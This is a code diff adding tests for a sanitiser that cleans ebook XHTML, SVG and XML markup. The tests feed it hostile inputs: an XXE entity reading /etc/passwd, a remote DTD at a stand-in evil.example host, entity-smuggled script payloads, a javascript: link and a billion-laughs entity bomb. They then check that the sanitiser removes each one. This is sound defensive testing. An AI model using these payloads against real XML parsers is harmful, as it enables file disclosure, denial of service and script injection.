@@ -355,7 +355,7 @@ describe("cleaning a book's markup", () => {
       /<script|<svg:script|alert|onload|onclick|javascript|<iframe|<object|<embed|<base|Refresh|<set/i,
     );
     expect(out.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html>')).toBe(true);
-    expect(out).toContain('<p title="say &quot;hi&quot;">Hello&nbsp;world &#x263A; <a>x</a>');
+    expect(out).toContain('<p title="say &quot;hi&quot;">Hello&#160;world &#x263A; <a>x</a>');
     expect(out).toContain('<a href="b.xhtml#n">ok</a>');
     expect(out).toContain('<link rel="stylesheet" href="style.css"/>');
     expect(out).toContain('<image xlink:href="cover.jpg"/>');
@@ -372,5 +372,97 @@ describe("cleaning a book's markup", () => {
         "image/svg+xml",
       ),
     ).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>');
+  });
+
+  /** Every `&` left must start a reference no document can redefine. */
+  const onlyFixedReferences = (out: string) =>
+    expect(out.match(/&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[\da-fA-F]+);)[^\s]{0,12}/g)).toBeNull();
+
+  it("drops a DOCTYPE's internal subset and every entity it declared, so none smuggles script", () => {
+    const out = clean(`<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE html [
+  <!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">
+  <!ENTITY y "<script>alert(2)</script>">
+  <!ATTLIST p onclick CDATA "alert(3)">
+  <!-- a comment's ]> does not end the subset -->
+  <!ENTITY z ']>&lt;script&gt;alert(4)&lt;/script&gt;'>
+  <!ENTITY js "javascript:">
+]>
+<html xmlns="http://www.w3.org/1999/xhtml"><head><style>p::after { content: "&x;" }</style></head>
+<body><p>a&x;b&y;c&z;d</p><a href="&js;alert(5)" title="&x;">l</a></body></html>`);
+    expect(out).toBe(`<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE html>
+<html xmlns="http://www.w3.org/1999/xhtml"><head><style>p::after { content: "" }</style></head>
+<body><p>abcd</p><a href="alert(5)" title="">l</a></body></html>`);
+    expect(out).not.toMatch(/script|alert\([1-4]\)|javascript|ENTITY|ATTLIST|onclick/i);
+    onlyFixedReferences(out);
+  });
+
+  it("drops external entities and DTDs: SYSTEM and PUBLIC identifiers, parameter entities", () => {
+    const out = clean(`<?xml version="1.0"?>
+<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd" [
+  <!ENTITY xxe SYSTEM "file:///etc/passwd">
+  <!ENTITY % remote SYSTEM "http://evil.example/x.dtd">
+  %remote;
+]>
+<html xmlns="http://www.w3.org/1999/xhtml"><body><p>[&xxe;]</p></body></html>`);
+    expect(out).toBe(`<?xml version="1.0"?>
+<!DOCTYPE html>
+<html xmlns="http://www.w3.org/1999/xhtml"><body><p>[]</p></body></html>`);
+
+    const svg = clean(
+      `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/svg.dtd"><svg xmlns="http://www.w3.org/2000/svg"><text>&evil;</text></svg>`,
+      "image/svg+xml",
+    );
+    expect(svg).toBe(
+      '<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><text></text></svg>',
+    );
+    // A declaration out of place (only a prolog may hold one) goes too.
+    const stray = clean(
+      `<svg xmlns="http://www.w3.org/2000/svg"><!ENTITY q "x"/><g/></svg>`,
+      "image/svg+xml",
+    );
+    expect(stray).not.toContain("ENTITY");
+  });
+
+  it("survives nested entities (a billion laughs) without expanding them", () => {
+    const levels = Array.from({ length: 10 }, (_, i) =>
+      i === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`,
+    );
+    const body = "<p>&lol9;</p>".repeat(100);
+    const text = `<?xml version="1.0"?>
+<!DOCTYPE lolz [${levels.join("\n")}]>
+<lolz>${body}</lolz>`;
+    const out = clean(text, "application/xml");
+    expect(out).toBe(`<?xml version="1.0"?>
+<!DOCTYPE lolz>
+<lolz>${"<p></p>".repeat(100)}</lolz>`);
+  });
+
+  it("keeps XML's own entities and numeric references, and writes HTML's named ones as numbers", () => {
+    const out = clean(`<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">
+<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Q &amp; A</title></head>
+<body><p title="&lt;b&gt; &amp;&nbsp;&quot;">Fish &amp; chips &lt;hot&gt; &quot;now&quot; &apos;s&apos;
+&#160;&#xA0;&nbsp;&mdash;&copy;&AMP;&NotEqualTilde; AT&T &unknown; <![CDATA[&nbsp; stays]]></p></body></html>`);
+    expect(out).toBe(`<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE html>
+<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Q &amp; A</title></head>
+<body><p title="&lt;b&gt; &amp;&#160;&quot;">Fish &amp; chips &lt;hot&gt; &quot;now&quot; &apos;s&apos;
+&#160;&#xA0;&#160;&#8212;&#169;&#38;&#8770;&#824; AT&amp;T  <![CDATA[&nbsp; stays]]></p></body></html>`);
+    onlyFixedReferences(out.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, ""));
+    // HTML is read as HTML: its entities are the browser's own and stay as written.
+    expect(clean(`<!DOCTYPE html><p>a&nbsp;b &amp; c</p>`, "text/html")).toBe(
+      "<!DOCTYPE html><p>a&nbsp;b &amp; c</p>",
+    );
+  });
+
+  it("drops an XSLT stylesheet instruction (XSLT can write script) and keeps a CSS one", () => {
+    const out = clean(`<?xml version="1.0"?>
+<?xml-stylesheet type="text/xsl" href="evil.xsl"?>
+<?xml-stylesheet href="style.css" type="text/css"?>
+<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`);
+    expect(out).not.toContain("evil.xsl");
+    expect(out).toContain('<?xml-stylesheet href="style.css" type="text/css"?>');
   });
 });
